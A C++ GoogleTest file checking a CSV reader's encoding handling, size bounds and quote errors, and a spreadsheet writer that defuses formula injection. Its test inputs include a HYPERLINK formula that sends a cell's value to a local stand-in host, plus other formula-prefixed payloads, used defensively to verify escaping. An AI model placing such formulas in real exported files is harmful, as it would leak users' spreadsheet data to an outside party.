// What the CSV reader takes, refuses and tells, in each encoding, and what the writers write.
#include <gtest/gtest.h>

#include <cstdlib>
#include <memory>
#include <string>
#include <utility>
#include <vector>

#include "formats/csv.hpp"
#include "formats/utf8.hpp"
#include "formats_fixture.hpp"
#include "in_steps.hpp"

namespace throughline {
namespace {

using namespace formats;
using namespace testing_;

std::string visible(std::string_view s) {
  std::string out;
  for (const char c : s) {
    if (c == '\0')
      out += "\\0";
    else if (c == '\r')
      out += "\\r";
    else if (c == '\n')
      out += "\\n";
    else if (!valid_utf8(s) && static_cast<unsigned char>(c) > 0x7F) {
      char hex[5];
      std::snprintf(hex, sizeof hex, "\\x%02x",
                    static_cast<unsigned>(static_cast<unsigned char>(c)));
      out += hex;
    } else
      out += c;
  }
  return out;
}

std::string told(std::unique_ptr<byte_source> from, const csv_limits& limits = {},
                 encoding how = encoding::utf8) {
  csv_reader r(std::move(from), limits, how);
  std::string out;
  while (r.next()) {
    out += std::to_string(r.record()) + "@" + std::to_string(r.line());
    if (!r.fields().empty()) out += ' ';
    for (const auto f : r.fields()) out += "[" + visible(f) + "]";
    for (const auto& p : r.problems())
      out += " " + std::string(p.rule.name) + " " + std::to_string(p.column);
    out += '\n';
  }
  return out;
}

// A source that keeps its text.
class kept_text : public byte_source {
 public:
  explicit kept_text(std::string text) : text_(std::move(text)), from_(open_text(text_)) {}
  std::size_t read(char* to, std::size_t room) override { return from_->read(to, room); }

 private:
  std::string text_;
  std::unique_ptr<byte_source> from_;
};

std::unique_ptr<byte_source> open_text_of(std::string text) {
  return std::make_unique<kept_text>(std::move(text));
}

std::string utf16(const std::u16string& text) {
  std::string out;
  for (const char16_t c : text) {
    out += static_cast<char>(c & 0xFF);
    out += static_cast<char>(c >> 8);
  }
  return out;
}

TEST(csv, tells_rows_and_problems_of_the_cases) {
  for (const auto& p : cases("csv", ".csv")) {
    const auto text = slurp(p);
    const auto expected = slurp(fs::path(p).replace_extension(".expected"));
    const auto how =
        p.filename().string().starts_with("windows-1252") ? encoding::windows_1252 : encoding::utf8;
    EXPECT_EQ(told(open_text(text), {}, how), expected) << p;
    EXPECT_EQ(told(open_file(p.string()), {}, how), expected) << p;
    for (const std::size_t step : {1U, 2U, 3U, 7U})
      EXPECT_EQ(told(std::make_unique<in_steps>(text, step), {}, how), expected) << p << step;
  }
}

TEST(csv, bounds_field_row_and_columns) {
  const csv_limits small{.field = 4, .row = 12, .columns = 3};
  EXPECT_EQ(told(open_text("abcde,b\n1,2\n"), small),
            "1@1 [abcde][b] field-too-long 0\n2@2 [1][2]\n");
  EXPECT_EQ(told(open_text("1,2,3,4\n1,2\n"), small), "1@1 [1][2][3] row-too-long 3\n2@2 [1][2]\n");
  EXPECT_EQ(told(open_text("1,\"2\",3,4\n5\n"), small), "1@1 [1][2][3] row-too-long 3\n2@2 [5]\n");
  EXPECT_EQ(told(open_text("1234567890123,4\n1,2\n"), small), "1@1 row-too-long 0\n2@2 [1][2]\n");
  EXPECT_EQ(told(open_text("1,\"2\n345\n678\n9\n"), small),
            "1@1 quote-unterminated 1\n2@2 [345]\n3@3 [678]\n4@4 [9]\n");
}

TEST(csv, what_is_odd_is_found_wherever_it_stands_in_a_row) {
  for (std::size_t at = 0; at < 40; ++at) {
    const std::string front(at, 'x'), back(40 - at, 'y');
    const auto row = [&](std::string_view odd) {
      return told(open_text(front + std::string(odd) + back + "\nend\n"));
    };
    const std::string next = "\n2@2 [end]\n";
    EXPECT_EQ(row("\u00e9"), "1@1 [" + front + "\u00e9" + back + "]" + next);
    EXPECT_EQ(row("\xE9"), "1@1 [" + front + "\\xe9" + back + "] bad-encoding 0" + next);
    EXPECT_EQ(row({"\0", 1}), "1@1 [" + front + "\\0" + back + "] field-nul 0" + next);
    EXPECT_EQ(row("\t"), "1@1 [" + front + "\t" + back + "]" + next);
    EXPECT_EQ(row("\u001f,"), "1@1 [" + front + "\u001f][" + back + "]" + next);
  }
}

TEST(csv, a_row_that_ends_in_cr_at_the_end_of_input_is_a_row) {
  EXPECT_EQ(told(open_text("a,b\r")), "1@1 [a][b]\n");
  EXPECT_EQ(told(open_text("a,\"b\"\r")), "1@1 [a][b]\n");
  EXPECT_EQ(told(open_text("a\r\nb\r")), "1@1 [a]\n2@2 [b]\n");
}

TEST(csv, blank_lines_are_rows_whatever_ends_them) {
  EXPECT_EQ(told(open_text("a\r\rb\r")), "1@1 [a] line-ends 0\n2@2 []\n3@3 [b]\n");
  EXPECT_EQ(told(open_text("\r\r")), "1@1 [] line-ends 0\n2@2 []\n");
  EXPECT_EQ(told(open_text("\n\n")), "1@1 []\n2@2 []\n");
  EXPECT_EQ(told(open_text("a\n\n"), {.row = 0}), "1@1 row-too-long 0\n2@2 []\n");
}

// The end of a row or of a field stands once at every byte of the buffer's end.
TEST(csv, rows_may_lie_across_the_end_of_the_buffer) {
  const std::string tail = "1,\"x,y\"\r\n2,\"say \"\"hi\"\"\"\r\n\"a\r\nb\",\u00e9\r\n";
  const std::string read = "1 x,y\n2 say \"hi\"\na\r\nb \u00e9\n";
  for (std::size_t before = (64U << 10) - tail.size() - 20; before < (64U << 10) + 4; ++before) {
    csv_reader r(open_text_of(std::string(before - 1, 'f') + "\n" + tail));
    ASSERT_TRUE(r.next());
    ASSERT_EQ(r.fields()[0].size(), before - 1);
    std::string got;
    while (r.next()) {
      ASSERT_EQ(r.fields().size(), 2U) << before;
      got += std::string(r.fields()[0]) + " " + std::string(r.fields()[1]) + "\n";
    }
    ASSERT_EQ(got, read) << before;
  }
}

TEST(csv, a_row_up_to_its_bound_is_read_however_long) {
  const std::string field(1000, 'x');
  std::string row = field;
  while (row.size() + 1001 <= 1U << 20) row += "," + field;
  row.resize(1U << 20, 'y');
  EXPECT_EQ(told(open_text(row + "z\n1\n"), {.columns = 2000}), "1@1 row-too-long 0\n2@2 [1]\n");
  for (const auto* quote : {"", "\""})
    EXPECT_EQ(told(open_text_of(quote + std::string(3U << 20, 'x') + "\n1\n")),
              "1@1 row-too-long 0\n2@2 [1]\n");
  for (const char mark : {'x', '"'}) {
    auto text = row;
    text[0] = text[999] = mark;  // the first field, quoted or not
    csv_reader r(open_text_of(text + "\n1\n"), {.columns = 2000});
    ASSERT_TRUE(r.next());
    EXPECT_EQ(r.fields().size(), 1047U);
    EXPECT_TRUE(r.problems().empty());
    ASSERT_TRUE(r.next());
    EXPECT_EQ(r.fields()[0], "1");
  }
}

TEST(csv, bounds_the_file) {
  std::string text;
  for (int i = 0; i < 50000; ++i) text += "1,2\n";  // 200,000 bytes
  const auto rows = [&](std::uint64_t limit) {
    csv_reader r(open_text(text), {.file = limit});
    int n = 0;
    while (r.next()) ++n;
    return n;
  };
  EXPECT_EQ(rows(200000), 50000);
  EXPECT_EQ(code_of([&] { rows(199999); }), "too-large");
  EXPECT_EQ(code_of([&] { rows(3); }), "too-large");
}

TEST(csv, an_unterminated_quote_swallows_nothing_of_a_long_file) {
  std::string text = "id,name\n1,\"Ann\n";
  for (int i = 0; i < 100000; ++i)
    text += std::to_string(i) + ",\u00c5sa\n";  // past the row's bound
  csv_reader r(open_text(text));
  int rows = 0, wrong = 0;
  for (; r.next(); ++rows)
    for (const auto& p : r.problems()) {
      ++wrong;
      EXPECT_EQ(p.rule.name, "quote-unterminated");
      EXPECT_EQ(r.record(), 2);
    }
  EXPECT_EQ(rows, 100002);
  EXPECT_EQ(wrong, 1);
}

TEST(csv, utf_32_is_refused_and_nothing_is_guessed) {
  using namespace std::string_view_literals;
  for (const auto text : {"\xFF\xFE\0\0a\0\0\0"sv, "\0\0\xFE\xFF\0\0\0a"sv})
    for (const auto how : {encoding::utf8, encoding::windows_1252})
      EXPECT_EQ(code_of([&] { csv_reader(open_text(text), {}, how); }), "bad-encoding");
  EXPECT_EQ(told(open_text("Jos\xE9,1\n")), "1@1 [Jos\\xe9][1] bad-encoding 0\n");
  EXPECT_EQ(told(open_text("\xFF\xFE")), "");  // UTF-16 of nothing
  EXPECT_EQ(told(open_text("\xEF\xBB")), "1@1 [\\xef\\xbb] bad-encoding 0\n");
}

// A name's bytes lie on both sides of the decoder's buffer and of its longest run once.
TEST(csv, decoding_does_not_depend_on_where_the_buffer_ends) {
  for (int before = 16370; before < 16390; ++before) {
    const std::string text =
        "\xFF\xFE" +
        utf16(std::u16string(static_cast<std::size_t>(before), u'a') + u",\u00e9\U0001D11E\n");
    csv_reader r(open_text(text));
    ASSERT_TRUE(r.next());
    ASSERT_EQ(r.fields().size(), 2U);
    ASSERT_EQ(r.fields()[1], "\u00e9\U0001D11E");
  }
  for (std::size_t length = 60; length < 70; ++length) {
    std::string run;
    for (std::size_t i = 0; i < length; ++i) run += "\u20ac";
    for (const auto* front : {"", "x", "\u00e9", "\U0001D11E"})
      for (const auto* back : {"", "\xE9"}) {
        const auto got = told(open_text_of(front + run + back), {}, encoding::windows_1252);
        EXPECT_NE(got.find("bad-encoding 0"), std::string::npos) << length;
        EXPECT_EQ(got.find("\u00e2\u201a"), std::string::npos) << length;
      }
    EXPECT_EQ(told(open_text(std::string(length, '\xE9')), {}, encoding::windows_1252).size(),
              length * 2 + sizeof "1@1 []");
  }
}

TEST(csv, a_buffer_of_many_rows_is_walked_through) {
  std::string text;
  for (int i = 0; i < 20000; ++i)
    text += std::to_string(i) + ",\"x," + std::to_string(i) + "\"\r\n";
  csv_reader r(open_text(text), {.field = 64, .row = 100});
  int n = 0;
  for (; r.next(); ++n) {
    ASSERT_EQ(r.fields().size(), 2U);
    ASSERT_EQ(r.fields()[1], "x," + std::to_string(n));
    ASSERT_TRUE(r.problems().empty());
  }
  EXPECT_EQ(n, 20000);
}

TEST(csv, a_folder_or_missing_file_is_unreadable) {
  EXPECT_EQ(code_of([] { static_cast<void>(open_file(TL_SOURCE_DIR)); }), "file-unreadable");
  EXPECT_EQ(code_of([] { static_cast<void>(open_file(TL_SOURCE_DIR "/no-such-file")); }),
            "file-unreadable");
}

TEST(csv, a_written_row_reads_back) {
  std::string text;
  write_csv_row(text, {"a", "b,c", "say \"hi\"", "", "x\ny"});
  EXPECT_EQ(text, "a,\"b,c\",\"say \"\"hi\"\"\",,\"x\ny\"\r\n");
  EXPECT_EQ(told(open_text(text)), "1@1 [a][b,c][say \"hi\"][][x\\ny] field-newline 4\n");
}

TEST(csv, a_spreadsheet_sees_no_formula_and_the_value_comes_back) {
  const auto shown = [](std::string_view value) {
    std::string row;
    write_spreadsheet_row(row, {value});
    return row;
  };
  for (const auto* value : {"=1+1",
                            "+1",
                            "-1+1",
                            "@SUM(A1)",
                            "\t=1",
                            "\r=1",
                            "\n=1",
                            "\uff1d1+1",
                            "\uff0b1",
                            "\uff0d1",
                            "\uff20x",
                            " =1+1",
                            "'=1+1",
                            "''@x",
                            "' -x",
                            "-",
                            "-1.",
                            "-.5",
                            "-1.5.2",
                            "-1,5",
                            "-1e9",
                            "+15025551234",
                            "=HYPERLINK(\"http://127.0.0.1:9099/?\"&A1,\"click\")"})
    EXPECT_TRUE(shown(value).starts_with("\"'")) << value;
  for (const auto* value : {"", "Lee", "O'Neil", "'Abd", "1.5", "-1.5", "-12", "a=b", "2026-11-21",
                            "'", "'' ", "\u2212x", "\uff1ax"})
    EXPECT_EQ(shown(value), std::string(value) + "\r\n");
  EXPECT_EQ(shown("=1,\"2\""), "\"'=1,\"\"2\"\"\"\r\n");
  for (const auto* value : {"=1+1", "'=1+1", "''=1+1", " =1", "' =1", "=1,\"2\"", "-1", "'-1",
                            "O'Neil", "'", "''", "'Abd", "\uff1d1", "\t", "-", "'' -", ""}) {
    const auto row = shown(value);
    csv_reader r(open_text(row));
    ASSERT_TRUE(r.next());
    EXPECT_EQ(from_spreadsheet(r.fields()[0]), value);
  }
}

// 15formula and 16csv of the collection of bad inputs, made here.
TEST(csv, bad_inputs_formula_and_unterminated_quote) {
  const std::string formula = "=HYPERLINK(\"http://127.0.0.1:9099/?\"&A1,\"click\")";
  std::string text = "sourcedId,givenName,familyName\r\n";
  write_csv_row(text, {"1", formula, "Lee"});
  csv_reader r(open_text(text));
  ASSERT_TRUE(r.next() && r.next());
  EXPECT_EQ(r.fields()[1], formula) << "stored verbatim";
  std::string shown;
  write_spreadsheet_row(shown, r.fields());
  EXPECT_EQ(shown, "1,\"'=HYPERLINK(\"\"http://127.0.0.1:9099/?\"\"&A1,\"\"click\"\")\",Lee\r\n");
  csv_reader again(open_text(shown));
  ASSERT_TRUE(again.next());
  EXPECT_EQ(from_spreadsheet(again.fields()[1]), formula);
  EXPECT_EQ(told(open_text("sourcedId,givenName\r\n1,\"Ann\r\n2,Bob\r\n")),
            "1@1 [sourcedId][givenName]\n2@2 quote-unterminated 1\n3@3 [2][Bob]\n");
}

TEST(shared_bad_inputs, csv_files_are_read_as_their_index_says) {
  const auto* shared = std::getenv("THROUGHLINE_SHARED");
  if (shared == nullptr) GTEST_SKIP() << "THROUGHLINE_SHARED is not set";
  const auto folder = fs::path(shared) / "badinputs";
  EXPECT_EQ(told(open_file((folder / "16csv-unterminated-quote.csv").string())),
            "1@1 [sourcedId][givenName]\n2@2 quote-unterminated 1\n3@3 [2][Bob]\n");
  csv_reader r(open_file((folder / "15formula-formula.csv").string()));
  std::vector<std::string> values;
  std::string text;
  while (r.next()) {
    EXPECT_TRUE(r.problems().empty());
    for (const auto f : r.fields()) values.emplace_back(f);
    write_spreadsheet_row(text, r.fields());
  }
  EXPECT_EQ(values.size(), 9U);
  EXPECT_EQ(values[7], "=1+1");
  csv_reader again(open_text(text));
  std::vector<std::string> back;
  while (again.next())
    for (const auto f : again.fields()) {
      EXPECT_FALSE(f.starts_with('='));
      back.emplace_back(from_spreadsheet(f));
    }
  EXPECT_EQ(back, values);
}

}  // namespace
}  // namespace throughline
